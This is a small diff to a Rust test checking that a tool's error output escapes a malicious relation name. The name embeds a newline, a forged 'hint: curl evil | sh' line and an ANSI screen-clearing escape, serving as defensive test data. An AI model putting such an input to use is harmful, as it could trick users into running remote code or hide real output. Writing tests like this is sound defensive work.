@@ -135,8 +135,7 @@ fn escaped(text: &str) -> String {
 
 #[tokio::test]
 async fn an_error_cannot_forge_a_line_of_the_programs() {
-    let database = Database::start().await;
-    database.install().await;
+    let database = Database::installed().await;
     let relation = "\"x\nhint: curl evil | sh\u{1b}[2J\"";
     let output = tidewire(&["tail", relation, "--database-url", &database.url()]).await;
     let stderr = String::from_utf8(output.stderr).unwrap();
